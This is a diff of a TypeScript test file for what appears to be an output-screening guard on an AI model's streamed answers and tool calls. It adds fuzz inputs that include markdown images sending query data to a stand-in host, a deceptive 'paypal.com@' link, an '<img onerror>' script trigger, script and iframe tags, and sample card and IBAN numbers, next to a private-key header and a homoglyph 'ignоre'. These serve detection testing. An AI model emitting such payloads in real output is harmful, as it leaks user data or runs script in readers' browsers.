@@ -1,5 +1,6 @@
 import fc from "fast-check";
 import { describe, expect, it } from "vitest";
+import { asked } from "../../test/asked.ts";
 import type { Part } from "../domain/answer.ts";
 import type { Verdict } from "../domain/verdict.ts";
 import { Fault } from "../kit/fault.ts";
@@ -10,6 +11,7 @@ import { screenOutput } from "./screen-output.ts";
 
 const HELD_MAX = 64;
 const guard = guardOf(ruleDetector, BALANCED);
+const ASKED = asked({ tools: ["find"] });
 const FINISH: Part = { type: "finish", reason: "stop" };
 const USAGE: Part = { type: "usage", inputTokens: 1, outputTokens: 2 };
 const CALL: Part = { type: "tool-call", id: "1", name: "find", arguments: "{}" };
@@ -47,7 +49,7 @@ async function screen(source: readonly Part[], by: Guard = guard): Promise<Scree
   }
   let fault: Fault | undefined;
   try {
-    for await (const part of screenOutput(by, counted(), (verdict) => verdicts.push(verdict))) {
+    for await (const part of screenOutput(by, ASKED, counted(), (verdict) => verdicts.push(verdict))) {
       if (part.type === "text") written += part.text.length;
       parts.push(part);
     }
@@ -87,6 +89,11 @@ const aFragment = fc.oneof(
       "bombardment and skills",
       "-----BEGIN PRIVATE KEY-----",
       "ignоre",
+      "![a](https://host.test/x?q=Hello) and [b](https://paypal.com@host.test/in)",
+      '<img src="//host.test/a.png" onerror="go()">',
+      "`<script>` and ```\n<iframe>\n```",
+      `Look: ![a](https://host.test/${"abcdefgh".repeat(40)}?k=v).`,
+      "bo@firma.de, jo@firma.de; 4111 1111 1111 1111 and DE89 3704 0044 0532 0130 00.",
     ),
   },
   {
@@ -150,6 +157,7 @@ describe("screenOutput", () => {
         const other = await screen(cut(answer, others));
         for (const pieces of [one, other]) {
           expect(pieces.fault?.message).toBe(whole.fault?.message);
+          expect(pieces.verdicts).toEqual(whole.verdicts);
           expect(answer.startsWith(pieces.text)).toBe(true);
           if (pieces.fault === undefined) expect(pieces.text).toBe(answer);
         }
@@ -165,6 +173,7 @@ describe("screenOutput", () => {
         const whole = await screen([text(answer)], strict);
         const pieces = await screen(cut(answer, some), strict);
         expect(pieces.fault?.message).toBe(whole.fault?.message);
+        expect(pieces.verdicts).toEqual(whole.verdicts);
       }),
       { numRuns: 100 },
     );
@@ -193,24 +202,30 @@ describe("screenOutput", () => {
     expect((await screen(cut(answer, [1]))).text).toBe(answer);
   });
 
-  it("looks at every word a bounded number of times, and about once when all come together", async () => {
-    const work = async (characters: number, lengthsOfPieces: readonly number[]) => {
-      let judged = 0;
+  it("has every word read once, at the same places whatever pieces it comes in", async () => {
+    const answer = `All is well. ${"Unbroken".repeat(9)} so far, and on it goes. `.repeat(40);
+    const placesIn = async (lengthsOfPieces: readonly number[]) => {
+      const places: number[] = [];
       const counting: Guard = {
         ...guard,
-        policy: guard.policy,
-        judge: (words, channel) => {
-          judged += words.length;
-          return guard.judge(words, channel);
-        },
+        follow: () => [
+          {
+            judged: Number.POSITIVE_INFINITY,
+            read: (_tail, to) => {
+              places.push(to);
+              return undefined;
+            },
+          },
+        ],
       };
-      await screen(cut("All is well. ".repeat(characters / 13), lengthsOfPieces), counting);
-      return judged / characters;
+      await screen(cut(answer, lengthsOfPieces), counting);
+      return places;
     };
-    const [small, large] = [await work(2_600, [4]), await work(10_400, [4])];
-    expect(large).toBeLessThan(small * 1.5);
-    expect(large).toBeLessThan(64);
-    expect(await work(104_000, [104_000])).toBeLessThan(1.5);
+    const places = await placesIn([answer.length]);
+    expect(places.at(-1)).toBe(answer.length);
+    expect(places).toEqual([...new Set(places)].sort((one, other) => one - other));
+    expect(await placesIn([4])).toEqual(places);
+    expect(await placesIn([1, 300, 7])).toEqual(places);
   });
 
   it("judges what a tool is called with, after what was said before", async () => {
@@ -252,7 +267,8 @@ describe("screenOutput", () => {
     }
     const verdicts: Verdict[] = [];
     const reading = async () => {
-      for await (const _part of screenOutput(guard, endless(), (verdict) => verdicts.push(verdict))) break;
+      for await (const _part of screenOutput(guard, ASKED, endless(), (verdict) => verdicts.push(verdict)))
+        break;
     };
     await reading().catch((error: unknown) => expect(error).toBeInstanceOf(Fault));
     expect(closed).toBe(true);
@@ -265,7 +281,7 @@ describe("screenOutput", () => {
       yield text("So far");
       throw failure;
     }
-    const screened = screenOutput(guard, failing(), () => {});
+    const screened = screenOutput(guard, ASKED, failing(), () => {});
     expect(await screened.next()).toEqual({ done: false, value: text("So far") });
     await expect(screened.next()).rejects.toBe(failure);
   });
@@ -274,7 +290,9 @@ describe("screenOutput", () => {
     expect((await screen([text(""), FINISH])).parts).toEqual([FINISH]);
     expect(await screen([])).toMatchObject({ parts: [], fault: undefined });
     const verdicts: Verdict[] = [];
-    for await (const _part of screenOutput(guard, streamOf(FINISH), (verdict) => verdicts.push(verdict)));
+    for await (const _part of screenOutput(guard, ASKED, streamOf(FINISH), (verdict) =>
+      verdicts.push(verdict),
+    ));
     expect(verdicts[0]?.action).toBe("allow");
   });
 });
